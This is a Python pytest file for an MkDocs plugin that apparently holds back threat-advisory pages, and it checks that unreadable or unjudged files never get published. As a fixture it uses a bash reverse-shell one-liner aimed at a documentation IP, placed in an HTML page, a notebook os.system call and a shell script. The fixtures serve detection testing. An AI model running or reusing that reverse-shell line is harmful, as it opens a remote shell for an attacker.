"""Fail closed: no page reaches the site unjudged (issue 16, cases 1, 2, 3, 6 and 12).

Every case goes through the real `threatpub check` (in process) and a real `mkdocs build`,
and the serve cases through a real `mkdocs serve`. The property at the end generates file
names, encodings and front-matter shapes and builds them: nothing generated reaches site/
without a verdict that publishes it.
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import Site, make_site, mkdocs, serve, threatpub

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
HELD = (
    "---\ntitle: Gateway zqxheld\nthreatpub:\n  kind: vulnerability\n"
    "  target: {operator: Example Power Co., system: SCADA gateway}\n---\n\n"
    "# Gateway zqxheld\n\nThe gateway overflows.\n"
)


def check_pages(root: Path, options: dict[str, Any] | None = None) -> dict[str, dict[str, Any]]:
    """`threatpub check -f mkdocs.yml --format json` on the site at ``root``: path → page."""
    result = threatpub("check", "-f", "mkdocs.yml", "--format", "json", cwd=root)
    assert result.returncode in (0, 1), result.stderr
    return {p["path"]: p for p in json.loads(result.stdout)["pages"]}


def codes(page: dict[str, Any]) -> list[str]:
    return [f["code"] for f in page["findings"]]


def site_with(tmp_path: Path, files: dict[str, str | bytes], **options: Any) -> Site:
    site = make_site(tmp_path / "site", {"index.md": "# Home\n"}, options)
    for rel, content in files.items():
        path = site.docs / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
    return site


# -- 1. UTF-16 ------------------------------------------------------------------------------


UTF16 = {
    "no-bom.md": ("# Lab notes\n\n" + SHELL).encode("utf-16-le"),
    "with-bom.md": ("# Lab notes\n\n" + SHELL).encode("utf-16"),
}


def test_utf16_pages_fail_instead_of_publishing_unread(tmp_path: Path) -> None:
    site = site_with(tmp_path, UTF16)
    pages = check_pages(site.root)
    for name in UTF16:
        page = pages[name]
        assert page["verdict"] == "fail", (name, page["findings"])
        (finding,) = page["findings"]
        assert finding["code"] == "META001"
        assert finding["line"] == 1
        assert "UTF-16" in finding["message"]
        assert "UTF-8" in finding["fix"]


@pytest.mark.slow
def test_a_build_with_a_utf16_page_fails_and_publishes_nothing_of_it(tmp_path: Path) -> None:
    site = site_with(tmp_path, {"no-bom.md": UTF16["no-bom.md"]})
    result = mkdocs(site, "build")
    assert result.returncode != 0
    assert "no-bom.md" in result.stderr
    assert not site.built("no-bom.md")


# -- 2. files MkDocs copies as they are -----------------------------------------------------


def copied_files() -> dict[str, str | bytes]:
    notebook = {
        "cells": [
            {"cell_type": "markdown", "metadata": {}, "source": ["# Lab\n", "Run it:"]},
            {
                "cell_type": "code",
                "metadata": {},
                "execution_count": None,
                "outputs": [],
                "source": ["import os\n", f'os.system("{SHELL.strip()}")'],
            },
        ],
        "metadata": {"language_info": {"name": "python"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return {
        "advisories/held.md": HELD,
        "advisories/poc.html": "<html><body><pre>bash -i &gt;&amp; /dev/tcp/203.0.113.5/4444"
        " 0&gt;&amp;1</pre></body></html>\n",
        "advisories/incident.MD": HELD,
        "advisories/incident.md~": HELD,
        "advisories/notes.txt": "Notes on the gateway.\n",
        "lab.ipynb": json.dumps(notebook, indent=1),
        "shell.sh": SHELL,
        "readme.txt": "Nothing to see here.\n",
    }


def test_files_mkdocs_copies_verbatim_are_judged_by_content(tmp_path: Path) -> None:
    site = site_with(tmp_path, copied_files(), include=["advisories/**"])
    pages = check_pages(site.root)
    assert pages["advisories/poc.html"]["verdict"] == "hold"
    assert "CAC402" in codes(pages["advisories/poc.html"])
    for copy in ("advisories/incident.MD", "advisories/incident.md~"):
        assert pages[copy]["verdict"] == "hold", pages[copy]
        assert codes(pages[copy]) == codes(pages["advisories/held.md"])
    # Matched by include and without a block: held until the rules allow it.
    assert pages["advisories/notes.txt"]["verdict"] == "hold"
    assert codes(pages["advisories/notes.txt"]) == ["META004"]
    notebook = pages["lab.ipynb"]
    assert notebook["verdict"] == "hold"
    (finding,) = [f for f in notebook["findings"] if f["code"] == "CAC402"]
    lines = (site.docs / "lab.ipynb").read_text(encoding="utf-8").split("\n")
    assert "/dev/tcp/" in lines[finding["line"] - 1], finding  # the notebook's own line
    assert pages["shell.sh"]["verdict"] == "hold"
    assert pages["readme.txt"]["verdict"] == "publish"


@pytest.mark.slow
def test_kept_out_copies_never_reach_the_site(tmp_path: Path) -> None:
    site = site_with(tmp_path, copied_files(), include=["advisories/**"])
    result = mkdocs(site, "build")
    assert result.returncode == 0, result.stderr
    for rel in ("advisories/poc.html", "advisories/incident.MD", "advisories/incident.md~",
                "advisories/notes.txt", "lab.ipynb", "shell.sh"):  # fmt: skip
        assert not (site.out / rel).exists(), rel
    assert (site.out / "readme.txt").exists()
    assert "zqxheld" not in site.all_output_text().lower()
    staged = threatpub("stage", "-f", "mkdocs.yml", "staged", cwd=site.root)
    assert staged.returncode == 0, staged.stdout + staged.stderr
    copied = {
        p.relative_to(site.root / "staged").as_posix() for p in (site.root / "staged").rglob("*")
    }
    assert "readme.txt" in copied
    assert not copied & {"advisories/poc.html", "advisories/incident.MD", "lab.ipynb", "shell.sh"}


# -- 3 and 6. blocks nobody reads, front matter MkDocs would show as text -------------------


BLOCK = "title: Gateway\n{key}:\n  kind: vulnerability\n  target: {{operator: ACME}}\n"
NEAR_MISSES = {
    "case.md": ("---\n" + BLOCK.format(key="ThreatPub") + "---\n\n# G\n", "META002", 3),
    "upper.md": ("---\n" + BLOCK.format(key="THREATPUB") + "---\n\n# G\n", "META002", 3),
    "plural.md": ("---\n" + BLOCK.format(key="threatpubs") + "---\n\n# G\n", "META002", 3),
    "spaced.md": ("---\n" + BLOCK.format(key='"threatpub "') + "---\n\n# G\n", "META002", 3),
    "blank-first.md": ("\n---\n" + BLOCK.format(key="threatpub") + "---\n\n# G\n", "META001", 4),
    "space-first.md": (" ---\n" + BLOCK.format(key="threatpub") + " ---\n\n# G\n", "META001", 3),
    "toml.md": (
        "+++\ntitle = 'G'\n[threatpub]\nkind = 'vulnerability'\n+++\n\n# G\n",
        "META001",
        3,
    ),
    "no-fences.md": ("title: G\nthreatpub: vulnerability\n\n# G\n", "META001", 2),
    # 6: MkDocs' own reader (YAML's safe loader) rejects the whole front matter and shows it
    # as page text; threatpub read it.
    "not-a-date.md": (
        "---\ntitle: G\nupdated: 2026-02-30\nthreatpub:\n  kind: general\n---\n\n# G\n",
        "META001",
        3,
    ),
    "closed-at-eof.md": ("---\ntitle: G\nthreatpub:\n  kind: general\n---", "META001", 5),
}


def test_near_miss_blocks_and_front_matter_mkdocs_cannot_read_fail(tmp_path: Path) -> None:
    site = site_with(tmp_path, {name: text for name, (text, _, _) in NEAR_MISSES.items()})
    pages = check_pages(site.root)
    for name, (_, code, line) in NEAR_MISSES.items():
        page = pages[name]
        assert page["verdict"] == "fail", (name, page["findings"])
        finding = next(f for f in page["findings"] if f["code"] == code)
        assert finding["line"] == line, (name, finding)
        assert finding["fix"], name
    assert "did you mean 'threatpub'" in pages["case.md"]["findings"][0]["message"]


def test_a_page_that_only_mentions_the_block_is_not_a_near_miss(tmp_path: Path) -> None:
    page = (
        "# Using threatpub\n\nthreatpub: the plugin that holds pages.\n\n```yaml\nthreatpub:\n```\n"
    )
    site = site_with(tmp_path, {"about.md": page, "notes.md": "---\ntitle: Threats\n---\n\n# T\n"})
    pages = check_pages(site.root)
    assert pages["about.md"]["verdict"] == "publish", pages["about.md"]
    assert pages["notes.md"]["verdict"] == "publish", pages["notes.md"]


@pytest.mark.slow
def test_near_misses_fail_the_build(tmp_path: Path) -> None:
    site = site_with(tmp_path, {"not-a-date.md": NEAR_MISSES["not-a-date.md"][0],
                                "case.md": NEAR_MISSES["case.md"][0]})  # fmt: skip
    result = mkdocs(site, "build")
    assert result.returncode != 0
    for name in ("not-a-date.md", "case.md"):
        assert name in result.stderr
        assert not site.built(name)


# -- 12. mkdocs serve keeps answering -------------------------------------------------------


def wait_for(condition: Any, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if condition():
            return
        time.sleep(0.3)
    raise AssertionError("timed out")


@pytest.mark.slow
def test_serve_answers_with_a_utf16_page_and_follows_the_takedowns_file(tmp_path: Path) -> None:
    site = site_with(tmp_path, {"advisories/old.md": "# Old advisory\n\nFine.\n"})
    takedowns = site.root / "takedowns.yml"
    takedowns.write_text("[]\n", encoding="utf-8")
    config = yaml.safe_load(site.config_file.read_text(encoding="utf-8"))
    config["plugins"][-1]["threatpub"]["takedowns"] = "takedowns.yml"
    site.config_file.write_text(yaml.safe_dump(config), encoding="utf-8")
    with serve(site) as server:
        # A UTF-16 page added while serving: every page still answers, the page itself with
        # the banner and none of its bytes.
        (site.docs / "u16.md").write_bytes(UTF16["no-bom.md"])
        wait_for(lambda: server.get("/u16/")[0] == 200)
        status, body = server.get("/u16/")
        assert "threatpub-banner" in body
        assert "META001" in body
        assert "\x00" not in body
        assert server.get("/")[0] == 200
        # Editing the takedowns file rebuilds the preview: the page is taken down.
        entry = [{"page": "advisories/old.md", "received": "2026-11-20", "source": "self",
                  "reason": "withdrawn"}]  # fmt: skip
        takedowns.write_text(yaml.safe_dump(entry), encoding="utf-8")
        wait_for(lambda: server.get("/advisories/old/")[0] == 404)
        # A broken takedowns file does not stop the server: every page says why.
        takedowns.write_text("- page: [unclosed\n", encoding="utf-8")
        wait_for(lambda: "META020" in server.get("/")[1])
        status, body = server.get("/")
        assert status == 200
        assert "takedowns" in body
        assert server.alive()
        # Fixed, it publishes again.
        takedowns.write_text("[]\n", encoding="utf-8")
        wait_for(
            lambda: server.get("/advisories/old/")[0] == 200 and "META020" not in server.get("/")[1]
        )


# -- the property: nothing generated reaches site/ unjudged ---------------------------------

SUFFIXES = [".md", ".MD", ".md~", ".markdown", ".html", ".txt", ".ipynb", ".py", ".sh", ".bak"]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16-le", "utf-16"]
SHAPES = [
    "---\ntitle: T\nthreatpub:\n  kind: vulnerability\n  target: {operator: ACME}\n---\n\n",
    "---\ntitle: T\nThreatPub:\n  kind: general\n---\n\n",
    "\n---\nthreatpub:\n  kind: general\n---\n\n",
    "+++\nthreatpub = 'x'\n+++\n\n",
    "---\nupdated: 2026-02-30\n---\n\n",
    "",
]
BODIES = ["# Page zqxcanary\n\nPlain words.\n", "# Page zqxcanary\n\n" + SHELL]


@pytest.mark.slow
@settings(
    max_examples=6,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(
    files=st.lists(
        st.tuples(
            st.text("abcxyz-_", min_size=1, max_size=8),
            st.sampled_from(SUFFIXES),
            st.sampled_from(ENCODINGS),
            st.sampled_from(SHAPES),
            st.sampled_from(BODIES),
        ),
        min_size=3,
        max_size=8,
        unique_by=lambda f: (f[0], f[1].lower()),
    )
)
def test_no_generated_file_reaches_the_site_unjudged(tmp_path: Path, files: list[Any]) -> None:
    root = tmp_path / f"gen-{len(list(tmp_path.iterdir()))}"
    written = {}
    for stem, suffix, encoding, shape, body in files:
        name = f"advisories/{stem}{suffix}"
        written[name] = (shape + body).encode(encoding)
    site = site_with(root, written, include=["advisories/**"])
    result = mkdocs(site, "build")
    report_file = site.root / ".threatpub/report.json"
    verdicts = {}
    if report_file.exists():
        verdicts = {p["path"]: p["verdict"] for p in json.loads(report_file.read_text())["pages"]}
    if result.returncode != 0:
        # A failed build is a safe outcome; nothing of it may be deployed, so only the
        # reason matters: a page that could not be judged, named.
        assert any(name in result.stderr for name in written), result.stderr[-2000:]
        return
    for name in written:
        # Copied as it is, or built as a page: either way it must have been judged publishable.
        reached = (site.out / name).exists() or (name.endswith(".md") and site.built(name))
        if reached:
            assert verdicts.get(name) == "publish", (name, verdicts.get(name))
